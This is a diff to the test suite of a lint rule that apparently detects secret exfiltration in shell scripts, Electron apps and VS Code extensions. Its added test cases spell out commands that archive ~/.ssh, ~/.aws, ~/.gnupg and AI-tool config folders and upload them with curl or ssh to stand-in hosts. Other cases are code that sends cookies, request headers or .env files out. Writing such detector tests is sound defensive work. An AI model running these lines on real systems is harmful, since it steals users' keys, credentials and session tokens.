@@ -10,6 +10,17 @@ const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secret
 
 await ruleTester(rule, {
   valid: [
+    // archives that stay, or of ordinary folders; the platform in an address; services that one's own tools know,
+    { code: 'tar czf backup.tgz ~/.claude ~/.ssh\n', filename: 'run.sh' },
+    { code: 'tar c ~/.claude | ssh box tar x\n', filename: 'run.sh' },
+    { code: 'tar czf - dist | curl -T - https://drop.example-service.com/x\n', filename: 'run.sh' },
+    { code: 'tar xzf a.tgz -C ~ .ssh; curl -T a.tgz https://drop.example-service.com/x\n', filename: 'run.sh' },
+    { code: 'tar -czf - -C build . | curl -T - https://drop.example-service.com/x\n', filename: 'run.sh' },
+    { code: 'curl -d "password=$PASSWORD" "$(minikube service api --url)/login"\n', filename: 'run.sh' },
+    { code: 'HOST=$(terraform output -raw host)\ncurl -d "password=$PASSWORD" "https://$HOST/login"\n', filename: 'run.sh' },
+    { code: 'curl -fsSLO "https://dl.example-service.com/tool-$(uname -s)-$(uname -m)"\n', filename: 'run.sh', options: { strict: true } },
+    { code: 'import { session } from "electron"; session.defaultSession.webRequest.onBeforeSendHeaders((details, callback) => { details.requestHeaders["User-Agent"] = "x"; callback({ requestHeaders: details.requestHeaders }); });', options: { strict: true } },
+    { code: 'const vscode = require("vscode"); const run = async () => { const doc = await vscode.workspace.openTextDocument("README.md"); await fetch("https://drop.example-service.com/x", { method: "POST", body: doc.getText() }); };' },
     // what a regular expression finds in an ordinary file, a database that is asked, and clients of frameworks that talk to their own server
     { code: 'import { readFileSync } from "node:fs"; const found = /version=(.+)/.exec(readFileSync("./app.txt", "utf8")); fetch("https://x.example.app", { method: "POST", body: found[1] });' },
     { code: 'import { readFileSync } from "node:fs"; const rows = database.exec(readFileSync(".npmrc", "utf8")); fetch("https://x.example.app", { method: "POST", body: rows });' },
@@ -381,5 +392,19 @@ await ruleTester(rule, {
     { code: 'import nodemailer from "nodemailer"; const mail = nodemailer.createTransport({ service: "gmail" }); mail.sendMail({ to, attachments: [{ path: ".env" }] });', errors: [{ messageId: 'sent' }] },
     { code: 'import { globSync } from "glob"; import fs from "node:fs"; const found = globSync("**/{*.pem,id_rsa}").map((p) => ({ p, c: fs.readFileSync(p, "utf8") })); fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify(found) });', errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "node:fs"; import axios from "axios"; axios.defaults.headers.common["x-trace"] = fs.readFileSync(".env", "utf8");', errors: [{ messageId: 'sent' }] },
+    { code: 'tar c ~/.claude | curl -T - https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'tar czf /tmp/k.tgz ~/.gnupg && curl -F f=@/tmp/k.tgz https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'tar -czf/tmp/x - ~/.aws | curl -T - https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'zip -qr /tmp/a.zip ~/.config/gcloud; curl -T /tmp/a.zip https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'tar -cz -C "$HOME" .aws | curl -T - https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'tar -C ~ -cf - .ssh | ssh u@drop.example-service.com "cat > x"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: '7z a /tmp/a.7z ~/.codex; curl -T /tmp/a.7z https://drop.example-service.com/x\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'curl -d "password=$PASSWORD" "$(curl -s https://c.example-service.com/where)/login"\n', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'curl -fsSL "https://dl.example-service.com/$(uname -a)"\n', filename: 'run.sh', options: { strict: true }, errors: [{ messageId: 'sent' }] },
+    { code: 'curl -d "password=$PASSWORD" "$(minikube service api --url)/login"\n', filename: 'run.sh', options: { strict: true }, errors: [{ messageId: 'sent' }] },
+    { code: 'import { session } from "electron"; session.defaultSession.webRequest.onBeforeSendHeaders((details, callback) => { fetch("https://drop.example-service.com/x", { method: "POST", body: JSON.stringify(details.requestHeaders) }); callback({ requestHeaders: details.requestHeaders }); });', errors: [{ messageId: 'copied' }] },
+    { code: 'const { session, net } = require("electron"); session.fromPartition("persist:x").webRequest.onBeforeSendHeaders({ urls: ["*://*/*"] }, ({ requestHeaders }, callback) => { const r = net.request({ method: "POST", url: "https://drop.example-service.com/x" }); r.end(requestHeaders.Cookie); callback({ requestHeaders }); });', errors: [{ messageId: 'copied' }] },
+    { code: 'const vscode = require("vscode"); const run = async () => { const doc = await vscode.workspace.openTextDocument(".env"); await fetch("https://drop.example-service.com/x", { method: "POST", body: doc.getText() }); };', errors: [{ messageId: 'sent' }] },
+    { code: 'import * as vscode from "vscode"; export const run = async () => { for (const uri of await vscode.workspace.findFiles("**/.env")) { const doc = await vscode.workspace.openTextDocument(uri); await fetch("https://drop.example-service.com/x", { method: "POST", body: doc.getText() }); } };', errors: [{ messageId: 'sent' }] },
   ],
 });
